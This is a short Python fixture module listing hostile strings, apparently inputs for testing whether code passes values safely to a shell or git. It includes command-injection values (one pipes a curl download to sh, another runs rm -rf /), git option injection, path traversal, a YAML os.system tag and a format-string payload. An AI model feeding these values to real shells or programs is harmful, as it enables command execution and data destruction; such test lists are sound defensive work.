"""Texts that a shell or git could take for something else."""

from __future__ import annotations

HOSTILE = [
    "a;curl${IFS}x|sh",
    "a;touch${IFS}pwned",
    "$(id)",
    "$(touch pwned)",
    "`touch pwned`",
    '"; rm -rf / #',
    '"; touch pwned #',
    "'; touch pwned; '",
    "--upload-pack=x",
    "--output=pwned",
    "-opwned",
    "--",
    "../../x",
    "first\nsecond",
    "{a: b}",
    "!!python/object:os.system",
    "${HOME}",
    "*",
    "%s%n",
    "trailing\\",
    " ",
    "é\u202e",
]
